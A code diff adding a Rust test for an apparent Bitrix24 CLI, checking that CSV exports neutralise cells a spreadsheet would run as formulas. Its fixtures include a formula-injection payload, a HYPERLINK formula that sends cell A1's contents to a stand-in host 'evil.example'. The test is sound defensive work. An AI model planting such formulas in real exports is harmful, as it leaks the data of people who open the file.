@@ -434,3 +434,79 @@ fn offset_export_resumes_after_sigint_too() {
     assert_eq!(code, 0, "{err}");
     assert_every_id_once(&ndjson_ids(&out));
 }
+
+#[test]
+#[allow(deprecated)] // crm.deal.* is what `b24 list crm.deal.list` reads.
+fn csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised() {
+    let home = tempfile::tempdir().unwrap();
+    let portal = Portal::start(SandboxConfig::default());
+    let titles = [
+        "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
+        "+1+1",
+        "-2+3",
+        "@SUM(A1:A9)",
+        "\t=1",
+        "Roof repair",
+        "-7",
+    ];
+    let client = bitrix24::Client::webhook(&portal.webhook()).unwrap();
+    for title in titles {
+        portal
+            .block_on(std::future::IntoFuture::into_future(
+                client.crm_deal_add().fields(
+                    bitrix24::crm::DealFields::new()
+                        .title(title)
+                        .opportunity(-1500.0),
+                ),
+            ))
+            .unwrap();
+    }
+    let out = home.path().join("titles.csv");
+    let (code, _, err) = run(b24_webhook(home.path(), &portal)
+        .args([
+            "list",
+            "crm.deal.list",
+            "--select",
+            "TITLE,OPPORTUNITY",
+            "--out",
+        ])
+        .arg(&out));
+    assert_eq!(code, 0, "{err}");
+    let (header, rows) = read_csv(&out);
+    assert_eq!(header, ["ID", "TITLE", "OPPORTUNITY"]);
+    let cells: Vec<&str> = rows.iter().map(|r| r[1].as_str()).collect();
+    assert_eq!(
+        cells,
+        [
+            "'=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
+            "'+1+1",
+            "'-2+3",
+            "'@SUM(A1:A9)",
+            "'\t=1",
+            "Roof repair",
+            // A number is a number, not a formula.
+            "-7",
+        ]
+    );
+    assert!(
+        rows.iter().all(|r| r[2].parse::<f64>() == Ok(-1500.0)),
+        "negative amounts stay numbers: {rows:?}"
+    );
+
+    // Told to, the cells are written as they are.
+    let raw = home.path().join("raw.csv");
+    let (code, _, err) = run(b24_webhook(home.path(), &portal)
+        .args([
+            "list",
+            "crm.deal.list",
+            "--select",
+            "TITLE",
+            "--csv-formulas",
+            "--out",
+        ])
+        .arg(&raw));
+    assert_eq!(code, 0, "{err}");
+    let (_, rows) = read_csv(&raw);
+    let cells: Vec<&str> = rows.iter().map(|r| r[1].as_str()).collect();
+    assert_eq!(cells, titles);
+}
